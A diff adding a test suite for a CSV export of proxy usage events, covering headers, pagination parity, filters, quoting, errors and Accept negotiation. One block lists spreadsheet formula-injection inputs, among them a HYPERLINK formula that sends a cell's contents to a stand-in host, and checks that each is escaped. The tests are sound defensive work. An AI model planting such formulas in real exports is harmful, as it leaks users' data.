@@ -1,0 +1,219 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { recordUsage } from '../../database/usage-events.ts';
+import { connectGateway, connectOwner, newUser, type Persona } from '../../personas.ts';
+import { expectCommonHeaders, expectProblem } from '../contract.ts';
+import { mintKey } from '../key-scenes.ts';
+import { csvRow, header, parseCsv, readCsv, requestEvents } from './csv-scenes.ts';
+import { followLinks, insertEvents, makeEvent, readEvents } from './event-scenes.ts';
+
+const sql = connectOwner();
+const gateway = connectGateway();
+let user: Persona;
+
+beforeAll(async () => {
+  user = await newUser();
+});
+
+afterAll(() => Promise.all([sql.end(), gateway.end()]));
+
+describe('a user who reads events as CSV', () => {
+  it('gets a line of names alone before the first', async () => {
+    const { id } = await mintKey(user);
+    expect(await readCsv(user, id)).toBe(`${header.join(',')}\r\n`);
+  });
+
+  it('gets a file that is not kept, without pages', async () => {
+    const { id } = await mintKey(user);
+    const response = await requestEvents(user, id, { accept: 'text/csv' });
+    await response.text();
+    expectCommonHeaders(response);
+    expect(Object.fromEntries(response.headers)).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8; header=present',
+      'content-disposition': 'attachment; filename="events.csv"',
+    });
+    expect(response.headers.has('Link')).toBe(false);
+  });
+
+  it('gets line by line what the pages of JSON have', async () => {
+    const { id } = await mintKey(user);
+    const events = Array.from({ length: 230 }, (_, n) =>
+      makeEvent(id, {
+        occurredAt: new Date(Date.now() - n * 86_400_000 * 0.3).toISOString(),
+        statusCode: n % 7 === 0 ? 502 : 200,
+        bytesSent: n * 2 ** 31,
+        tunnelId: n % 5 === 0 ? `tunnel-${n}` : null,
+        slice: n % 3,
+      }),
+    );
+    expect(await recordUsage(gateway, events)).toMatchObject({ recorded: 230 });
+    const pages = await followLinks(user, id, { limit: 100 });
+    expect(pages).toHaveLength(3);
+    const rows = parseCsv(await readCsv(user, id));
+    expect(rows).toEqual([header, ...pages.flat().map(csvRow)]);
+    expect(rows).toEqual([header, ...events.map(csvRow)]);
+  });
+
+  it('gets those of a deleted key, by its keyId', async () => {
+    const { id, keyId } = await mintKey(user);
+    const event = makeEvent(id);
+    await recordUsage(gateway, [event]);
+    await user.api.DELETE('/api/v1/proxy/keys/{id}', { params: { path: { id } } });
+    expect(parseCsv(await readCsv(user, keyId))).toEqual([header, csvRow(event)]);
+  });
+
+  it('gets each of over two parts once, in order', async () => {
+    const { id } = await mintKey(user);
+    await sql`
+      insert into public.proxy_usage_events (
+        event_id, api_key_id, user_id, occurred_at, target_host, method, status_code, bytes_sent,
+        bytes_received, duration_ms, served_by_node_id
+      )
+      select
+        gen_random_uuid(), ${id}, ${user.id}, now() - make_interval(secs => n / 3), 'a.example',
+        'CONNECT', 200, n, 0, 1, 'node-1'
+      from generate_series(0, 12001) as n`;
+    const expected = await sql`
+      select event_id from public.proxy_usage_events where api_key_id = ${id}
+      order by occurred_at desc, event_id desc`;
+    const [names, ...rows] = parseCsv(await readCsv(user, id));
+    expect(names).toEqual(header);
+    expect(rows.map(([eventId]) => eventId)).toEqual(expected.map((row) => row.event_id));
+  });
+
+  it('gets those of a filter alone', async () => {
+    const { id } = await mintKey(user);
+    const moment = (ago: number) => new Date(Date.now() - ago * 1000).toISOString();
+    const events = Array.from({ length: 12 }, (_, n) =>
+      makeEvent(id, {
+        occurredAt: moment(n),
+        statusCode: n % 2 === 0 ? 200 : 502,
+        targetHost: n % 3 === 0 ? 'a.example' : 'b.example',
+      }),
+    );
+    await recordUsage(gateway, events);
+    const from = events[10]?.occurredAt ?? '';
+    const query = {
+      from,
+      to: events[1]?.occurredAt ?? '',
+      statusCode: 502,
+      targetHost: 'B.Example',
+    };
+    const filtered = (await readEvents(user, id, query)).events;
+    expect(filtered).toEqual([5, 7].map((n) => events[n]));
+    const search = `?${new URLSearchParams(query as unknown as Record<string, string>)}`;
+    expect(parseCsv(await readCsv(user, id, search))).toEqual([header, ...filtered.map(csvRow)]);
+  });
+});
+
+describe('a text in CSV', () => {
+  it.each([
+    ['a comma', 'a,b'],
+    ['a quote', 'a"b'],
+    ['quotes alone', '""'],
+    ['a line feed', 'a\nb'],
+    ['a carriage return', 'a\rb'],
+    ['a line end', 'a\r\nb'],
+    ['all of them', '","\r\n""'],
+    ['what other scripts have', 'münchen.example, 東京, 🔑'],
+    ['a space at its ends', ' a '],
+    ['an equals sign within', 'a=1+1'],
+    ['a comma, and no formula', ',=1'],
+  ])('is as it was recorded, with %s', async (_, text) => {
+    const { id } = await mintKey(user);
+    const event = makeEvent(id, { targetHost: text, servedByNodeId: text, tunnelId: text });
+    expect(await recordUsage(gateway, [event])).toMatchObject({ recorded: 1, rejected: [] });
+    expect((await readEvents(user, id)).events).toEqual([event]);
+    expect(parseCsv(await readCsv(user, id))).toEqual([header, csvRow(event)]);
+  });
+
+  it.each([
+    ['=', '=1+1'],
+    ['+', '+x'],
+    ['-', '-x'],
+    ['@', '@x'],
+    ['a tab', '\tx'],
+    ['a carriage return', '\rx'],
+    ['= and a comma', '=HYPERLINK("http://a.example?"&A1,"x")'],
+  ])('that a spreadsheet would run is behind an apostrophe: %s', async (_, text) => {
+    const { id } = await mintKey(user);
+    const event = makeEvent(id, { targetHost: text, method: text.slice(0, 20) });
+    await insertEvents(sql, [{ ...event, servedByNodeId: text, tunnelId: text }]);
+    const [, row] = parseCsv(await readCsv(user, id));
+    const shown = header.map((name, index) => [name, row?.[index]]);
+    expect(Object.fromEntries(shown)).toMatchObject({
+      targetHost: `'${text}`,
+      method: `'${text.slice(0, 20)}`,
+      servedByNodeId: `'${text}`,
+      tunnelId: `'${text}`,
+    });
+  });
+});
+
+describe('a refusal of CSV is a problem document', () => {
+  const refuse = async (query: string, status: number, code: string, id?: string) => {
+    const key = id ?? (await mintKey(user)).id;
+    const response = await requestEvents(user, key, { accept: 'text/csv', query });
+    const { errors } = await expectProblem(response, status, code);
+    return errors?.map(({ path }) => path);
+  };
+
+  it.each([
+    ['?limit=10', ['limit']],
+    ['?page=1', ['page']],
+    ['?cursor=AAYAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', ['cursor']],
+    ['?cursor=&page=2&limit=10', ['cursor', 'limit', 'page']],
+    ['?from=yesterday', ['from']],
+    ['?from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z', ['to']],
+    ['?statusCode=99', ['statusCode']],
+    ['?targetHost=', ['targetHost']],
+    ['?format=csv', ['format']],
+  ])('for %s', async (query, paths) => {
+    expect((await refuse(query, 400, 'invalid_request'))?.sort()).toEqual(paths);
+  });
+
+  it("for another user's key, and for none", async () => {
+    const { id } = await mintKey(await newUser());
+    await refuse('', 404, 'not_found', id);
+    await refuse('', 404, 'not_found', 'avp_live_000000000000');
+  });
+
+  it('without a token', async () => {
+    const { id } = await mintKey(user);
+    const response = await requestEvents({ token: '' }, id, { accept: 'text/csv' });
+    await expectProblem(response, 401, 'unauthorized');
+  });
+});
+
+describe('Accept', () => {
+  it.each([
+    ['text/csv', true],
+    ['TEXT/CSV', true],
+    ['text/csv; charset=utf-8; header=present', true],
+    ['text/*', true],
+    ['application/json;q=0.5,text/csv', true],
+    ['application/json;q=0.5, text/*;q=0.6', true],
+    ['*/*;q=0.1, text/csv', true],
+    ['application/json;q=0, */*', true],
+    ['*/*', false],
+    ['*/*, text/csv;q=0.5', false],
+    ['application/json', false],
+    ['application/*', false],
+    ['application/json, text/csv;q=0.9', false],
+    ['text/csv;q=0.001, application/json;q=0.002', false],
+    ['text/csv;q=0', false],
+    ['text/csv;q=0, text/*', false],
+    ['text/csv;q=0, */*', false],
+    ['text/html, application/xhtml+xml, application/xml;q=0.9, */*;q=0.8', false],
+    ['image/png', false],
+    ['text/csvx', false],
+    ['', false],
+    ['nonsense', false],
+  ])('%s', async (accept, asCsv) => {
+    const { id } = await mintKey(user);
+    const response = await requestEvents(user, id, { accept });
+    expect(response.status).toBe(200);
+    const type = asCsv ? 'text/csv; charset=utf-8; header=present' : 'application/json';
+    expect(response.headers.get('Content-Type')).toBe(type);
+    await response.text();
+  });
+});
